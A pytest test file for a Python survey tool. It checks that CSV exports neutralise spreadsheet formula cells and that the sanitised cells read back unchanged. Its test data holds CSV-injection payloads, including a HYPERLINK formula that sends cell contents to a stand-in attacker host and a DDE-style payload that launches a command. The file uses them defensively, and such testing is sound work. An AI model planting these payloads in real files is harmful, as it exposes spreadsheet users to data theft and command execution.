"""Inert CSV: every file survey writes for a spreadsheet neutralises formula cells, and reads them back."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given, strategies as st

from corpuskit import write_jsonl
from survey.csv_cells import TRIGGERS, inert, inert_frame, inert_row, restore
from survey.observations_csv import read_observations, write_observations
from survey.observation import Observation

def _number(cell):
    return re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell) is not None


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_an_apostrophe_and_reads_back(text):
    assert inert(text) == "'" + text
    assert restore(inert(text)) == text


@pytest.mark.parametrize("value", [-34.1, 12, None, "-34.1", "+2", "1e-3", "-.5", "plain title", "", "'quoted'"])
def test_numbers_and_harmless_text_are_left_alone(value):
    assert inert(value) == value
    assert restore(value) == value


def test_an_apostrophe_before_a_formula_is_kept_through_the_trip():
    assert inert("'=x") == "''=x" and restore("''=x") == "'=x"
    assert restore("'=x") == "=x" and restore("'plain") == "'plain"


@given(st.text(alphabet=st.sampled_from(["'", "a", "1", ".", " ", *TRIGGERS]), max_size=8) | st.text(max_size=12))
def test_restore_undoes_inert_for_any_text(text):
    assert restore(inert(text)) == text
    assert not inert(text).startswith(TRIGGERS) or _number(inert(text))


def test_a_frame_keeps_numeric_columns_as_they_are():
    frame = pd.DataFrame({"method": ["=A1", "CNN"], "change": [-34.1, 2.0], "count": [-3, 4]})
    out = inert_frame(frame)
    assert list(out["method"]) == ["'=A1", "CNN"]
    assert list(out["change"]) == [-34.1, 2.0] and list(out["count"]) == [-3, 4]
    assert frame["method"][0] == "=A1", "the caller's frame is not changed"
    assert inert_row(["-1", -1, "-x"]) == ["-1", -1, "'-x"]


def test_cache_export_is_inert_and_imports_back_the_same(tmp_path):
    rows = [Observation("openalex", text, "@task", "all time", None, None, None, text, 3, "error", error=text,
                        fetched_at="2026-01-02T03:04:05.000000Z") for text in HOSTILE]
    path = tmp_path / "obs.csv"
    write_observations(path, rows)
    cells = [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for c in row]
    assert not any(c.startswith(TRIGGERS) and not _number(c) for c in cells)
    assert read_observations(path) == rows


QUERY = """
name = "mini"
[methods]
"=HYPERLINK(1)" = ["CNN"]
LSTM = ["LSTM"]
[tasks]
"@SUM(1)" = []
[[windows]]
name = "all time"
"""

TITLES = ['=HYPERLINK("http://evil.example","x") CNN', "+cmd|' /C calc'!A0 CNN", "@SUM(1) CNN", "-2+3 CNN",
          "A plain CNN", "Another CNN"]


@pytest.fixture
def corpus(home, tmp_path):
    from survey.config import load_settings
    from survey.corpus.index import import_corpus

    records = [{"id": f"R{i}", "title": t, "abstract": "", "year": 2010 + i} for i, t in enumerate(TITLES)]
    records.append({"id": "L1", "title": "An LSTM tagger", "abstract": "", "year": 2016})
    import_corpus(write_jsonl(tmp_path / "mini.jsonl", records), load_settings().corpora_dir / "mini.sqlite")
    query = tmp_path / "mini.toml"
    query.write_text(QUERY, encoding="utf-8")
    return query


def _cli(*args):
    from survey.cli import main

    return CliRunner().invoke(main, list(map(str, args)))


def _formulas(text):
    return [c for row in csv.reader(io.StringIO(text)) for c in row if c.startswith(TRIGGERS) and not _number(c)]


def test_labels_counts_and_shares_csv_are_inert_and_labels_import_back(corpus, home, tmp_path):
    out = tmp_path / "labels.csv"
    r = _cli("audit", "-q", corpus, "-s", "local:mini", "--cell", "=HYPERLINK(1):@SUM(1)", "-n", "6",
             "--export-labels", out)
    assert r.exit_code == 0, r.output
    text = out.read_text(encoding="utf-8")
    assert "'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\") CNN" in text and _formulas(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        row["relevant"] = "1"
    with out.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    r = _cli("audit", "-q", corpus, "-s", "local:mini", "--cell", "=HYPERLINK(1):@SUM(1)", "-n", "6",
             "--import-labels", out)
    assert r.exit_code == 0, r.output
    assert "6 labels imported" in r.stderr
    assert _cli("refresh", "-q", corpus, "-s", "local:mini").exit_code == 0
    for command in (["counts"], ["shares"]):
        r = _cli(*command, "-q", corpus, "--format", "csv")
        assert r.exit_code == 0, r.output
        assert "'=HYPERLINK(1)" in r.stdout and "'@SUM(1)" in r.stdout and _formulas(r.stdout) == []
